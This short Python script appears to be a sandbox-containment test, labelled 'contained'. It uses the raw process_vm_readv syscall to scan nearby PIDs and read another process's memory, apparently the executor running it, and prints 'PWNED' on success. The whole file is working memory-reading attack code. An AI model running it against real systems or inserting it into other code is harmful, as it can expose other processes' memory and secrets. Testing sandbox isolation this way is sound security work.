# floor: contained
# It reads the executor's memory without a descriptor.
import ctypes, os
L = ctypes.CDLL(None, use_errno=True)
L.syscall.restype = ctypes.c_long
X86 = os.uname().machine == "x86_64"
def call(x86, arm, *args):
    return L.syscall(ctypes.c_long(x86 if X86 else arm), *[a if isinstance(a, bytes) or a is None else ctypes.c_long(a) for a in args])

import struct
seen = ctypes.create_string_buffer(8)
vector = struct.pack("PN", ctypes.addressof(seen), 8)
target = struct.pack("PN", ctypes.cast(L.getpid, ctypes.c_void_p).value, 8)
for pid in range(os.getppid() - 100, os.getpid() + 5000):
    if pid != os.getpid() and call(310, 270, pid, vector, 1, target, 1, 0) > 0:
        print("PWNED", pid)
